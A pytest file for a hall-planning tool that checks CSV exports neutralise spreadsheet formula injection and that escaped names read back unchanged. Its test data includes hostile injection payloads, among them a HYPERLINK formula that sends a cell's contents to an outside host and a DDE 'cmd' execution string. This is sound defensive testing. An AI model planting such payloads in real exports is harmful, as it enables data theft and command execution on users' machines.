"""No cell of any CSV begins as a formula, whatever names a stranger gave; readers of ours get the names back."""

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from shared.small_plans import make_plan

from planner import formats
from planner.check import Window
from planner.core.spreadsheet import FORMULA, inert, original
from planner.design.placement import given, place
from planner.hall.floor import Lengths, Slack
from planner.studies.verification import windows_of

NAMES = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "plain", "'quoted'")


def hostile(room):
    names = tuple(NAMES[n % len(NAMES)] + f" {n}" * (n >= len(NAMES)) for n in range(room.slot_count))
    return replace(room, slot_names=names, row_names=tuple(f"=row{n}" for n in range(len(room.row_names))), title="=1+1")


@pytest.fixture(scope="module")
def plan():
    label = '=HYPERLINK("{cabinet}")-{piece}'
    return make_plan(q=5, endpoints_per_router=2, change_room=hostile, label=label, name="=plan", title="=1+1")


def texts(path):
    """The CSV files of a report."""
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as book:
            return [book.read(name).decode() for name in book.namelist()]
    return [path.read_text(encoding="utf-8")]


def number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.slow
@pytest.mark.parametrize("name", ["csv", "labels_csv", "slingshot_p2p", "netbox", "opa", "purchase_csv"])
def test_no_cell_is_a_formula(plan, tmp_path, name):
    if name == "purchase_csv":
        lines = tuple(replace(line, maker="=1+1", description="@SUM(A1)", source="+x") for line in plan.bill.purchase)
        plan = replace(plan, bill=replace(plan.bill, purchase=lines))
    if name != "opa":
        assert {plan.room.slot_names[slot][0] for slot in plan.placement.slot_of} > {"=", "+", "-", "@"}
    path = formats.write(plan, tmp_path, name)
    cells = [cell for text in texts(path) for row in csv.reader(io.StringIO(text)) for cell in row]
    assert len(cells) > 100
    assert not [cell for cell in cells if cell[:1] in FORMULA and cell and not number(cell)]


def test_a_schedule_is_read_back_as_a_layout(plan, tmp_path):
    path = formats.write(plan, tmp_path, "csv")
    lengths = Lengths(plan.room, plan.catalog.cabinet, Slack())
    again = place(plan.topology, plan.catalog, lengths, seed=1, algorithm="manual", layout=path, bounds=False)
    assert again.slot.tolist() == plan.placement.slot.tolist()


def test_places_are_read_back(plan, tmp_path):
    path, devices = tmp_path / "places.csv", plan.inventory.names.tolist()
    given.Places.of(plan.placement).write(path, devices, plan.room, [False] * len(devices))
    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA and cell and not number(cell)]
    again, _ = given.read(path, plan.inventory, plan.room)
    assert again.slot.tolist() == plan.placement.slot.tolist()
    assert again.unit.tolist() == plan.placement.unit.tolist()


def test_windows_are_read_back(tmp_path):
    path = tmp_path / "windows.csv"
    path.write_text("window,action,a_device,a_port,b_device,b_port\n0,put in,'=1,1,'@a,data/2\n", encoding="utf-8")
    assert windows_of(path) == (Window(0, (), (frozenset({("=1", 1), ("@a", 2)}),)),)


@pytest.mark.parametrize("text", [*NAMES, "", "'", "''", "''=", "=", "-5", "-5x", "−1"])
def test_text_comes_back(text):
    assert original(inert(text)) == text
